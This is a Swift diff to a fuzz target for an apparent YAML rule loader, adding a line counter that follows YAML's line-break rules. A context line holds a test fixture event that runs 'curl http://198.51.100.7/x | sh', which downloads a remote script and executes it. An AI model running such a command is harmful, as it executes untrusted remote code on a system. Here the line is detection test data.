@@ -20,11 +20,31 @@ let shellEvent = ExecEvent(
     args: [Array("bash".utf8), Array("-c".utf8), Array("curl http://198.51.100.7/x | sh".utf8)]
 )
 
+/// The lines of `bytes` as YAML 1.1 (and libyaml) counts them: a line break is LF, CR, CR LF,
+/// NEL (U+0085), LS (U+2028) or PS (U+2029). A file with bare CRs thus has more lines for the
+/// rules' errors than `grep -c` shows.
+func yamlLineCount(_ bytes: [UInt8]) -> Int {
+    var lines = 1
+    var index = 0
+    while index < bytes.count {
+        switch bytes[index] {
+        case 0x0A: lines += 1
+        case 0x0D where index + 1 >= bytes.count || bytes[index + 1] != 0x0A: lines += 1
+        case 0xC2 where index + 1 < bytes.count && bytes[index + 1] == 0x85: lines += 1
+        case 0xE2 where index + 2 < bytes.count && bytes[index + 1] == 0x80 && (bytes[index + 2] | 1) == 0xA9:
+            lines += 1
+        default: break
+        }
+        index += 1
+    }
+    return lines
+}
+
 @_cdecl("LLVMFuzzerTestOneInput")
 public func testOneInput(_ data: UnsafePointer<UInt8>?, _ size: Int) -> CInt {
     let input = FuzzInput(data, size)
     let result = RuleLoader.load(documents: [(file: "fuzz.yml", bytes: input.array)])
-    let lines = input.bytes.reduce(1) { $0 + ($1 == 0x0A ? 1 : 0) }
+    let lines = yamlLineCount(input.array)
     for error in result.errors + result.skipped {
         _ = error.description
         // Line and column 0 say the problem concerns the whole file (an empty file, no document).
